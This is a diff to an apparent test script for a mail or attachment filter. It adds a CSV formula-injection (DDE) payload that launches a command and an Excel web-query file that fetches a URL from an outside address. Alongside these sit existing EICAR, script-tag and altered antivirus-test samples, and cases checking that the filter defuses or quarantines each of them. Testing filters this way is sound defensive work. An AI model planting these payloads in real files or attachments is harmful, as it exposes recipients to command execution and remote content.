@@ -16,7 +16,9 @@ DESCRIPTION
              only type/name logic can stop it),
       eicar  the EICAR string, assembled from pieces,
       script an HTML <script> element (a browser runs it when the file
-             or attachment is opened by its name).
+             or attachment is opened by its name),
+      formula a spreadsheet formula line (DDE) of a CSV,
+      iqy    an Excel web query (fetches and opens a URL).
     Expectations (comma separated, all must hold; "payload absent" and "no
     crash" always apply):
       undelivered        exit 2 or 3 (nothing forwarded)
@@ -33,11 +35,15 @@ EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" +
 clam = open(CLAM, "rb").read()
 pe = clam[:-1] + bytes([clam[-1] ^ 0x55])
 SCRIPT = b"<script>alert(document.domain)</script>"
-PAYLOADS = {"clam": clam, "pe": pe, "eicar": EICAR, "script": SCRIPT}
+FORMULA = b"\n=cmd|'/C calc'!A0\n"
+IQY = b"WEB\r\n1\r\nhttp://198.51.100.7/q.html\r\n"
+PAYLOADS = {"clam": clam, "pe": pe, "eicar": EICAR, "script": SCRIPT,
+            "formula": FORMULA, "iqy": IQY}
 # File cases are named NAME.bin unless listed here (the name is what a
 # recipient's browser or viewer goes by).
 FILE_EXT = {"padded_html_file": "html", "late_svg_file": "svg",
-            "padded_xhtml_file": "xhtml", "padded_mht_file": "mht"}
+            "padded_xhtml_file": "xhtml", "padded_mht_file": "mht",
+            "prose_csv_file": "csv"}
 
 HDR = ["From: Attacker <attacker@example.com>", "To: victim@example.jp",
        "Date: Mon, 01 Jan 2024 00:00:00 +0000",
@@ -251,6 +257,11 @@ CASES = [
      late_svg),
     ("padded_mht_file", "script", "file", "verdict=stripped|quarantined|rejected",
      lambda p: b"MIME-Version: 1.0\r\n" + padded(p)),
+    # a .csv libmagic calls text/plain (prose first) still has its formulas defused
+    ("prose_csv_file", "formula", "file", "verdict=cleaned|stripped|quarantined",
+     lambda p: b"Quarterly figures follow, see below" + p + b"thanks\n"),
+    ("iqy_attachment", "iqy", "mail", "code=executable",
+     lambda p: mail("web query", simple(p, "report.iqy", "text/plain"))),
 ]
 
 
